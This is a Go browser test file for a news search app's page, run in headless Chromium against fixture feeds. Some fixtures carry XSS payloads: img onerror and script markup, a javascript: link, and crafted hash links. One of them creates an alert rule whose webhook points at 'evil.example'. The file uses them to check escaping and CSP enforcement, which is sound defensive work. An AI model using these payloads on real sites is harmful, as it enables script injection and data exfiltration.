@@ -1,0 +1,576 @@
+package app
+
+import (
+	"context"
+	"fmt"
+	"html"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/fetch"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+)
+
+// The search page driven by a real headless Chromium (Debian's chromium
+// package; .ci/run installs it) against parley running in-process over a
+// local site of fixture articles, some of which carry markup and script.
+
+// payload is what hostile feeds and links try to run: it marks the page
+// and creates an alert rule with an outside webhook, as in issue 14 row 3.
+const payload = `window.__pwned=1;fetch('/api/rules',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({name:'pwned',query:'x',webhook:'https://evil.example/h'})})`
+
+// evilMarkup is markup that runs payload wherever it is parsed as HTML.
+var evilMarkup = `<img src=x onerror="` + payload + `"><script>` + payload + `</script>`
+
+// browserSite is the fixture: feed "wire" (24 plain articles, one of them
+// a wire copy), feed "copy" (the other copy of that story) and feed
+// "evil" (a title, a site name and an article carrying evilMarkup).
+type browserSite struct {
+	srv   *httptest.Server
+	plain int // articles in the wire feed
+}
+
+// words makes distinct text for article i, so that no two articles but
+// the wire copies fall into one story.
+func words(i, n int) string {
+	vocab := strings.Fields(`minister envoy talks ceasefire delegation border trade sanctions
+		treaty embassy council resolution vote aid corridor grain port harbour energy pipeline gas
+		oil election observers mission monitors refugees convoy negotiators capital province river
+		valley coast island strait airspace drones missiles artillery reserves budget loan bank
+		currency tariff quota export import shipping insurance court tribunal prosecutor witness
+		archive statement communique protocol annex agenda venue schedule deadline proposal draft
+		amendment clause signatory guarantor mediator observer chair deputy spokesman adviser`)
+	r := rand.New(rand.NewPCG(uint64(i)+1, 42))
+	out := make([]string, n)
+	for k := range out {
+		out[k] = vocab[r.IntN(len(vocab))]
+	}
+	return strings.Join(out, " ")
+}
+
+// wireStory is the text both copies of one story carry.
+var wireStory = "The foreign ministers of both countries met in Geneva on Tuesday for talks on a prisoner exchange, officials said. " +
+	`"We are ready to continue the dialogue," Sergei Lavrov said after the meeting, adding that experts would meet again next week. ` +
+	"The talks lasted four hours and covered the exchange of prisoners, humanitarian corridors and the return of children. " +
+	"Diplomats from Switzerland and Turkey attended as mediators and said a second round could take place in Istanbul."
+
+func startBrowserSite(t *testing.T) *browserSite {
+	t.Helper()
+	s := &browserSite{plain: 24}
+	mux := http.NewServeMux()
+	page := func(site, title, published, body string) string {
+		var b strings.Builder
+		fmt.Fprintf(&b, "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>%s</title>", html.EscapeString(title))
+		fmt.Fprintf(&b, "<meta property=\"og:site_name\" content=\"%s\">", html.EscapeString(site))
+		fmt.Fprintf(&b, "<meta property=\"article:published_time\" content=\"%s\"></head><body><article><h1>%s</h1>", published, html.EscapeString(title))
+		for _, p := range strings.Split(body, "\n\n") {
+			fmt.Fprintf(&b, "<p>%s</p>", html.EscapeString(p))
+		}
+		b.WriteString("</article></body></html>")
+		return b.String()
+	}
+	type item struct{ title, link, date string }
+	rss := func(title string, items []item) string {
+		var b strings.Builder
+		fmt.Fprintf(&b, `<?xml version="1.0"?><rss version="2.0"><channel><title>%s</title><link>%s/</link>`, html.EscapeString(title), s.srv.URL)
+		for _, it := range items {
+			fmt.Fprintf(&b, "<item><title>%s</title><link>%s</link><guid>%s</guid><pubDate>%s</pubDate></item>", html.EscapeString(it.title), html.EscapeString(it.link), html.EscapeString(it.link), it.date)
+		}
+		b.WriteString("</channel></rss>")
+		return b.String()
+	}
+	pages := map[string]string{}
+	feeds := map[string]string{}
+	s.srv = httptest.NewServer(mux)
+	t.Cleanup(s.srv.Close)
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		if f, ok := feeds[r.URL.Path]; ok {
+			w.Header().Set("Content-Type", "application/rss+xml")
+			_, _ = w.Write([]byte(f))
+			return
+		}
+		if p, ok := pages[r.URL.Path]; ok {
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			_, _ = w.Write([]byte(p))
+			return
+		}
+		http.NotFound(w, r)
+	})
+
+	var wire []item
+	for i := range s.plain {
+		day := time.Date(2026, 11, 1+i, 9, 0, 0, 0, time.UTC)
+		title := fmt.Sprintf("Wire report %02d: %s", i, words(i, 5))
+		body := words(i*7+1, 70) + ".\n\n" + words(i*7+2, 70) + ".\n\n" + words(i*7+3, 70) + "."
+		if i == 3 {
+			title = "Wire report 03: Lavrov and Fidan hold Geneva talks"
+			body = wireStory
+		}
+		path := fmt.Sprintf("/wire/%02d.html", i)
+		pages[path] = page("Wire Service", title, day.Format(time.RFC3339), body)
+		wire = append(wire, item{title, s.srv.URL + path, day.Format(time.RFC1123Z)})
+	}
+	feeds["/wire.xml"] = rss("Wire Service", wire)
+
+	day := time.Date(2026, 11, 5, 12, 0, 0, 0, time.UTC)
+	pages["/copy/geneva.html"] = page("Daily Copy", "Geneva talks between Lavrov and Fidan", day.Format(time.RFC3339), wireStory)
+	feeds["/copy.xml"] = rss("Daily Copy", []item{{"Geneva talks between Lavrov and Fidan", s.srv.URL + "/copy/geneva.html", day.Format(time.RFC1123Z)}})
+
+	evil := evilMarkup + "Evil News"
+	day = time.Date(2026, 11, 6, 12, 0, 0, 0, time.UTC)
+	pages["/evil/a.html"] = page(evil, "Summit "+evilMarkup+" report", day.Format(time.RFC3339),
+		"The summit opened with a statement. "+evilMarkup+" Delegates from twelve countries arrived.\n\n"+words(900, 80)+".\n\n"+words(901, 80)+".")
+	feeds["/evil.xml"] = rss(evil, []item{
+		{"Summit " + evilMarkup + " report", s.srv.URL + "/evil/a.html", day.Format(time.RFC1123Z)},
+		{"A javascript: link", "javascript:" + payload, day.Format(time.RFC1123Z)},
+	})
+	return s
+}
+
+func (s *browserSite) feeds() []string {
+	return []string{s.srv.URL + "/wire.xml", s.srv.URL + "/copy.xml", s.srv.URL + "/evil.xml"}
+}
+
+// chromiumPath finds a Chromium to drive. Outside CI a missing browser
+// skips the test; in CI (CI=true) it fails it: .ci/run installs chromium.
+func chromiumPath(t *testing.T) string {
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "headless-shell"} {
+		if p, err := exec.LookPath(name); err == nil {
+			return p
+		}
+	}
+	if os.Getenv("CI") == "true" {
+		t.Fatal("no chromium binary on PATH, and CI=true: .ci/run must install Debian's chromium package (apt-get install chromium)")
+	}
+	t.Skip("no chromium binary on PATH (apt-get install chromium); the browser test of the search page is skipped")
+	return ""
+}
+
+// browser is one headless Chromium tab on parley's page.
+type browser struct {
+	t     *testing.T
+	ctx   context.Context
+	base  string
+	shots string
+
+	mu     sync.Mutex
+	errors []string // uncaught exceptions and console errors
+}
+
+func newBrowser(t *testing.T, base string) *browser {
+	t.Helper()
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(chromiumPath(t)), chromedp.NoSandbox, chromedp.DisableGPU, chromedp.WindowSize(1100, 720))
+	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
+	ctx, cancel := chromedp.NewContext(actx)
+	t.Cleanup(func() { cancel(); cancelAlloc() })
+	// The first Run starts the browser, which lives as long as its context.
+	if err := chromedp.Run(ctx); err != nil {
+		t.Fatalf("start chromium: %v", err)
+	}
+	b := &browser{t: t, ctx: ctx, base: base, shots: os.Getenv("PARLEY_SCREENSHOTS")}
+	if b.shots == "" {
+		b.shots = t.TempDir()
+	}
+	chromedp.ListenTarget(ctx, func(ev any) {
+		b.mu.Lock()
+		defer b.mu.Unlock()
+		switch ev := ev.(type) {
+		case *runtime.EventExceptionThrown:
+			b.errors = append(b.errors, "exception: "+ev.ExceptionDetails.Error())
+		case *runtime.EventConsoleAPICalled:
+			if ev.Type == runtime.APITypeError {
+				var args []string
+				for _, a := range ev.Args {
+					args = append(args, string(a.Value)+a.Description)
+				}
+				b.errors = append(b.errors, "console.error: "+strings.Join(args, " "))
+			}
+		}
+	})
+	// Every page records the CSP violations it sees: one means injected
+	// markup reached the HTML parser and only the CSP stopped it.
+	b.run(chromedp.ActionFunc(func(ctx context.Context) error {
+		_, err := page.AddScriptToEvaluateOnNewDocument(`window.__violations = [];
+			document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.violatedDirective + " " + e.blockedURI));`).Do(ctx)
+		return err
+	}))
+	return b
+}
+
+func (b *browser) run(actions ...chromedp.Action) {
+	b.t.Helper()
+	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
+	defer cancel()
+	if err := chromedp.Run(ctx, actions...); err != nil {
+		b.t.Fatalf("browser: %v (page errors: %v)", err, b.errors)
+	}
+}
+
+// eval evaluates a JavaScript expression and returns its value.
+func (b *browser) eval(expr string, out any) {
+	b.t.Helper()
+	b.run(chromedp.Evaluate(expr, out))
+}
+
+// waitJS waits until the expression is true. Evaluation errors while a
+// page is being replaced (no execution context yet) count as not yet.
+func (b *browser) waitJS(what, expr string) {
+	b.t.Helper()
+	deadline := time.Now().Add(20 * time.Second)
+	var lastErr error
+	for time.Now().Before(deadline) {
+		var ok bool
+		ctx, cancel := context.WithTimeout(b.ctx, 5*time.Second)
+		lastErr = chromedp.Run(ctx, chromedp.Evaluate("!!("+expr+")", &ok))
+		cancel()
+		if lastErr == nil && ok {
+			return
+		}
+		time.Sleep(50 * time.Millisecond) // polling interval
+	}
+	var status string
+	_ = chromedp.Run(b.ctx, chromedp.Evaluate(`document.querySelector("#status") ? document.querySelector("#status").textContent : ""`, &status))
+	b.t.Fatalf("waiting for %s: not within 20s (last error %v, status %q, page errors %v)", what, lastErr, status, b.errors)
+}
+
+func (b *browser) status() string {
+	var s string
+	b.eval(`document.querySelector("#status").textContent`, &s)
+	return s
+}
+
+// open loads the page afresh with hash h, as a followed link would, and
+// waits for a view.
+func (b *browser) open(h string) {
+	b.t.Helper()
+	b.run(chromedp.Navigate("about:blank"), chromedp.Navigate(b.base+"/"+h))
+	b.waitJS("the page to render", `document.readyState === "complete" && !/…$/.test(document.querySelector("#status").textContent) && document.querySelector("#view").childElementCount > 0`)
+}
+
+func (b *browser) screenshot(name string) {
+	b.t.Helper()
+	var png []byte
+	b.run(chromedp.CaptureScreenshot(&png))
+	if err := os.WriteFile(filepath.Join(b.shots, name), png, 0o644); err != nil {
+		b.t.Fatal(err)
+	}
+}
+
+// clean fails the test when script from the fixtures or links ran, or
+// when their markup reached the DOM as elements, or a page error occurred.
+func (b *browser) clean(step string) {
+	b.t.Helper()
+	var got struct {
+		Pwned      string   `json:"pwned"`
+		Handlers   int      `json:"handlers"`
+		BadLinks   []string `json:"badLinks"`
+		Imgs       int      `json:"imgs"`
+		Scripts    int      `json:"scripts"`
+		Violations []string `json:"violations"`
+	}
+	b.eval(`({
+		pwned: typeof window.__pwned,
+		handlers: document.querySelectorAll("[onerror],[onload],[onclick],[onmouseover],[onfocus]").length,
+		badLinks: [...document.querySelectorAll("a[href]")].map(a => a.getAttribute("href")).filter(h => !/^(https?:\/\/|#|\/)/i.test(h)),
+		imgs: document.querySelectorAll("img").length,
+		scripts: document.querySelectorAll("script:not([src])").length,
+		violations: window.__violations || [],
+	})`, &got)
+	if got.Pwned != "undefined" || got.Handlers != 0 || len(got.BadLinks) != 0 || got.Imgs != 0 || got.Scripts != 0 || len(got.Violations) != 0 {
+		b.t.Errorf("%s: injected markup took effect: %+v", step, got)
+	}
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if len(b.errors) != 0 {
+		b.t.Errorf("%s: page errors: %v", step, b.errors)
+		b.errors = nil
+	}
+}
+
+// searchRequests is how many searches the API answered (its metric).
+func searchRequests(t *testing.T, base string) int {
+	t.Helper()
+	resp, err := http.Get(base + "/metrics")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	data, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, line := range strings.Split(string(data), "\n") {
+		if strings.HasPrefix(line, `parley_http_requests_total{code="200",route="search"}`) {
+			_, _ = fmt.Sscanf(strings.Fields(line)[1], "%d", &n)
+		}
+	}
+	return n
+}
+
+func TestSearchPageInBrowser(t *testing.T) {
+	chromiumPath(t)
+	site := startBrowserSite(t)
+	_, base := startApp(t, Config{AllowPrivate: true}, site.feeds())
+	// The wire articles, the copy and the hostile article; the item whose
+	// link is javascript: is kept from its feed fields today (issue 14 row
+	// 9), and the page must then show it without a link.
+	waitFor(t, "the fixture articles to be searchable", 90*time.Second, func() bool { return searchable(base) >= site.plain+2 })
+	pollUntil(10*time.Second, func() bool { return searchable(base) == site.plain+3 })
+	var all struct {
+		Total int `json:"total"`
+		Hits  []struct {
+			ID, URL, Title, Source string
+		} `json:"hits"`
+	}
+	if getJSON(t, base+"/api/search?q=*&size=100", &all) != 200 {
+		t.Fatal("search")
+	}
+	for _, h := range all.Hits {
+		if !strings.HasPrefix(h.URL, "http://") && !strings.HasPrefix(h.URL, "https://") {
+			t.Logf("article %s has the non-web URL %q: the page must not link it", h.ID, h.URL)
+		}
+	}
+
+	// CSP, checked on the document the browser loads.
+	resp, err := http.Get(base + "/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
+		t.Fatalf("Content-Security-Policy %q", csp)
+	}
+
+	b := newBrowser(t, base)
+	b.run(chromedp.EmulateViewport(1100, 720))
+
+	t.Run("search", func(t *testing.T) {
+		b.t = t
+		b.open("")
+		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d articles", all.Total)) {
+			t.Errorf("status %q, want %d articles", s, all.Total)
+		}
+		b.open("#q=talks")
+		b.screenshot("search.png")
+		b.run(chromedp.SetValue("#q", "Lavrov", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
+		b.waitJS("the Lavrov results", `document.querySelector("#status").textContent.startsWith("2 articles for Lavrov")`)
+		// Search again on the same query runs it again.
+		before := searchRequests(t, base)
+		b.run(chromedp.Click(`#f button`, chromedp.ByQuery))
+		waitFor(t, "a second search for the same query", 10*time.Second, func() bool { return searchRequests(t, base) == before+1 })
+		b.clean("search")
+	})
+
+	t.Run("paging", func(t *testing.T) {
+		b.t = t
+		b.open("#q=")
+		var first, second []string
+		b.eval(`[...document.querySelectorAll(".hit h2")].map(h => h.textContent)`, &first)
+		if len(first) != 20 {
+			t.Fatalf("first page: %d hits", len(first))
+		}
+		b.run(chromedp.Click("#older", chromedp.ByQuery))
+		b.waitJS("page 2", `document.querySelector("#status").textContent.includes("21–")`)
+		b.eval(`[...document.querySelectorAll(".hit h2")].map(h => h.textContent)`, &second)
+		if len(second) != all.Total-20 || second[0] == first[0] {
+			t.Errorf("second page: %d hits starting %q (first page started %q)", len(second), second[0], first[0])
+		}
+		b.run(chromedp.Click("#newer", chromedp.ByQuery))
+		b.waitJS("page 1 again", `document.querySelector("#status").textContent.includes("1–20")`)
+		b.clean("paging")
+	})
+
+	t.Run("crafted link", func(t *testing.T) {
+		b.t = t
+		// The link of issue 14 row 3, as a user would receive it, and one
+		// that carries the whole payload (the query then fails to parse:
+		// the error shows the text).
+		for _, link := range []string{`#q=x><img src=x onerror=window.__pwned=1>&from=20`, `#q=x"><img src=x onerror="` + payload + `">&from=20`} {
+			b.open(link)
+			var pager bool
+			b.eval(`document.querySelector("#newer") !== null`, &pager)
+			if pager {
+				b.run(chromedp.Click("#newer", chromedp.ByQuery))
+				b.waitJS("page 1", `!location.hash.includes("from=") && !/…$/.test(document.querySelector("#status").textContent)`)
+			}
+			var text string
+			b.eval(`document.querySelector("#q").value`, &text)
+			if !strings.Contains(text, `<img src=x onerror=`) {
+				t.Errorf("%s: the search box does not hold the query as text: %q", link, text)
+			}
+			b.clean("crafted link " + link)
+		}
+		b.clean("crafted link")
+	})
+
+	t.Run("hostile feed title and article", func(t *testing.T) {
+		b.t = t
+		b.open("#q=summit")
+		b.clean("results with a hostile title")
+		var clicked bool
+		b.eval(`(() => { const a = [...document.querySelectorAll("#side a.facet")].find(a => a.textContent.includes("Evil News")); if (a) a.click(); return !!a; })()`, &clicked)
+		if !clicked {
+			t.Fatal("no source facet for the hostile feed")
+		}
+		b.waitJS("the facet's search", `document.querySelector("#status").textContent.includes("source:")`)
+		if s := b.status(); !strings.HasPrefix(s, "1 article ") {
+			t.Errorf("the hostile source's facet found %q, want its 1 article", s)
+		}
+		b.clean("facet click")
+		b.eval(`document.querySelector(".hit h2 a").click()`, nil)
+		b.waitJS("the hostile article", `document.querySelector("article.full") !== null`)
+		var text string
+		b.eval(`document.querySelector("article.full").textContent`, &text)
+		if !strings.Contains(text, "<img src=x onerror=") {
+			t.Errorf("the article does not show its markup as text: %q", text)
+		}
+		b.clean("hostile article")
+		// The CSP itself is enforced: inline handlers do not run even when
+		// markup is inserted as HTML.
+		b.eval(`document.body.insertAdjacentHTML("beforeend", '<img id="cspprobe" src="x" onerror="window.__cspfailed=1">'); true`, nil)
+		b.waitJS("the CSP to refuse the inline handler", `window.__violations.length > 0`)
+		var failed string
+		b.eval(`typeof window.__cspfailed`, &failed)
+		if failed != "undefined" {
+			t.Errorf("an inline handler ran: the CSP is not enforced")
+		}
+		b.eval(`document.querySelector("#cspprobe").remove(); window.__violations = []; true`, nil)
+		var rules struct {
+			Rules []any `json:"rules"`
+		}
+		getJSON(t, base+"/api/rules", &rules)
+		if len(rules.Rules) != 0 {
+			t.Errorf("rules after the injection attempts: %v", rules.Rules)
+		}
+	})
+
+	t.Run("stories", func(t *testing.T) {
+		b.t = t
+		b.open("#q=&collapse=story")
+		if s := b.status(); !strings.HasPrefix(s, fmt.Sprintf("%d stories", all.Total-1)) {
+			t.Errorf("collapsed status %q, want %d stories", s, all.Total-1)
+		}
+		var copy, single string
+		for _, h := range all.Hits {
+			if strings.Contains(h.Title, "Geneva") && copy == "" {
+				copy = h.ID
+			}
+			if strings.HasPrefix(h.Title, "Wire report 07") {
+				single = h.ID
+			}
+		}
+		b.open("#article/" + copy)
+		b.waitJS("the copies link", `document.querySelector("article.full").dataset.copies === "checked"`)
+		var link string
+		b.eval(`document.querySelector("#copies") ? document.querySelector("#copies").textContent : ""`, &link)
+		if link != "1 other copy of this story" {
+			t.Errorf("wire copy: copies link %q", link)
+		}
+		b.screenshot("article.png")
+		b.open("#article/" + single)
+		b.waitJS("the copies check", `document.querySelector("article.full").dataset.copies === "checked"`)
+		b.eval(`document.querySelector("#copies") ? document.querySelector("#copies").textContent : ""`, &link)
+		if link != "" {
+			t.Errorf("a story of one offers %q", link)
+		}
+		b.clean("stories")
+	})
+
+	t.Run("back keeps the scroll position", func(t *testing.T) {
+		b.t = t
+		b.open("#q=")
+		b.eval(`window.scrollTo(0, 600); window.scrollY`, nil)
+		b.waitJS("the scroll", `window.scrollY === 600`)
+		b.eval(`document.querySelectorAll(".hit h2 a")[12].click()`, nil)
+		b.waitJS("the article", `document.querySelector("article.full") !== null`)
+		b.run(chromedp.Click("#back", chromedp.ByQuery))
+		b.waitJS("the results at the same place", `document.querySelector(".hit") !== null && window.scrollY === 600`)
+		b.clean("back")
+	})
+
+	t.Run("slow earlier response", func(t *testing.T) {
+		b.t = t
+		b.open("#q=")
+		// Hold every search for "Fidan" until the next query has rendered.
+		release := make(chan struct{})
+		var held sync.WaitGroup
+		chromedp.ListenTarget(b.ctx, func(ev any) {
+			e, ok := ev.(*fetch.EventRequestPaused)
+			if !ok {
+				return
+			}
+			slow := strings.Contains(e.Request.URL, "q=Fidan")
+			if slow {
+				held.Add(1)
+			}
+			go func() {
+				if slow {
+					defer held.Done()
+					<-release
+				}
+				_ = chromedp.Run(b.ctx, fetch.ContinueRequest(e.RequestID))
+			}()
+		})
+		b.run(fetch.Enable().WithPatterns([]*fetch.RequestPattern{{URLPattern: "*/api/search*"}}))
+		b.run(chromedp.SetValue("#q", "Fidan", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
+		b.run(chromedp.SetValue("#q", "summit", chromedp.ByQuery), chromedp.Click(`#f button`, chromedp.ByQuery))
+		b.waitJS("the later query", `document.querySelector("#status").textContent.startsWith("1 article for summit")`)
+		close(release)
+		held.Wait()
+		// The held answer, if it arrives at all, must not replace the later one.
+		b.waitJS("a settled page", `document.querySelector("#status").textContent.startsWith("1 article for summit")`)
+		b.run(fetch.Disable())
+		if s := b.status(); !strings.HasPrefix(s, "1 article for summit") {
+			t.Errorf("after the slow answer: status %q", s)
+		}
+		b.clean("slow response")
+	})
+
+	t.Run("feeds", func(t *testing.T) {
+		b.t = t
+		b.open("#feeds")
+		var overlap bool
+		b.eval(`(() => { const a = document.querySelector("#add").getBoundingClientRect(), t = document.querySelector("#feedtable").getBoundingClientRect();
+			return !(a.right <= t.left || t.right <= a.left || a.bottom <= t.top || t.bottom <= a.top); })()`, &overlap)
+		if overlap {
+			t.Error("the add-feed box overlaps the feeds table")
+		}
+		b.screenshot("feeds.png")
+		b.clean("feeds")
+	})
+
+	t.Run("phone", func(t *testing.T) {
+		b.t = t
+		b.run(chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile))
+		defer b.run(chromedp.EmulateViewport(1100, 720))
+		for _, h := range []string{"#q=", "#feeds", "#q=summit"} {
+			b.open(h)
+			var wide bool
+			b.eval(`document.documentElement.scrollWidth > window.innerWidth`, &wide)
+			if wide {
+				t.Errorf("%s: the page is wider than the 390 px screen", h)
+			}
+		}
+		b.open("#q=")
+		var above bool
+		b.eval(`document.querySelector("#side").getBoundingClientRect().bottom <= document.querySelector(".hit").getBoundingClientRect().top`, &above)
+		if !above {
+			t.Error("on a phone the filters are not above the results")
+		}
+		b.screenshot("phone.png")
+		b.clean("phone")
+	})
+}
